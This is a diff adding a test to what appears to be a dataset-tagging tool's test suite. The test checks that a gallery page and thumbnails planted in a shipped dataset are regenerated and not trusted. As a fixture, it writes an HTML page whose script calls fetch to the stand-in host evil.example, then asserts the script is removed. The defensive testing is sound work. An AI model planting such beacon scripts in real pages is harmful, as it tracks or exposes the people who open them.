@@ -122,6 +122,41 @@ it('an empty thumbnail or page (what a power cut can leave: they are written wit
   expect((await pageData(report.page)).images).toHaveLength(3)
 })
 
+it('a page or thumbnails lora did not write here (a gallery folder shipped in a dataset) are made again', async () => {
+  const root = await dataset()
+  const first = await json(['gallery'], root)
+  const thumbs = join(first.dir, 'thumbs')
+  const hostile = '<!doctype html><script>fetch("https://evil.example/?opened")</script>'
+  const fake = await sharp({create: {width: 8, height: 8, channels: 3, background: '#f0f'}})
+    .webp()
+    .toBuffer()
+  // A stranger's dataset that ships its gallery folder: made for this very path (so its gallery.json, copied here,
+  // holds the digest lora computes), its page replaced by the stranger's and a thumbnail by another picture.
+  await fsp.cp(first.dir, join(tmp, 'shipped'), {recursive: true})
+  await fsp.rm(first.dir, {recursive: true})
+  await fsp.rename(join(tmp, 'shipped'), first.dir)
+  await fsp.writeFile(first.page, hostile)
+  const [name] = await fsp.readdir(thumbs)
+  await fsp.writeFile(join(thumbs, name), fake)
+  expect((await json(['gallery'], root)).thumbnails).toEqual({made: 3, cached: 0, removed: 0})
+  expect(await fsp.readFile(first.page, 'utf8')).not.toContain('evil.example')
+  expect((await pageData(first.page)).images).toHaveLength(3)
+  expect(Buffer.compare(await fsp.readFile(join(thumbs, name)), fake)).not.toBe(0)
+  expect((await json(['gallery'], root)).thumbnails).toEqual({made: 0, cached: 3, removed: 0})
+
+  // A thumbnail that arrives later beside lora's own (a `git pull` bringing an image and a file in thumbs/ for it).
+  await copyFixtures(root, ['skimage-page.png'])
+  await loraInOk(['init', '.'], {cwd: root})
+  const state = JSON.parse(await fsp.readFile(join(root, '.lora-tagger', 'state.json'), 'utf8')) as {
+    images: {sha256: string}[]
+  }
+  const planted = join(thumbs, `${state.images[3].sha256}-256.webp`)
+  await new Promise((done) => setTimeout(done, 20))
+  await fsp.writeFile(planted, fake)
+  expect((await json(['gallery'], root)).thumbnails).toEqual({made: 1, cached: 3, removed: 0})
+  expect(Buffer.compare(await fsp.readFile(planted), fake)).not.toBe(0)
+})
+
 it('the page is written again when what it shows changed, and left alone when nothing did', async () => {
   const root = await dataset()
   const {page} = await json(['gallery'], root)
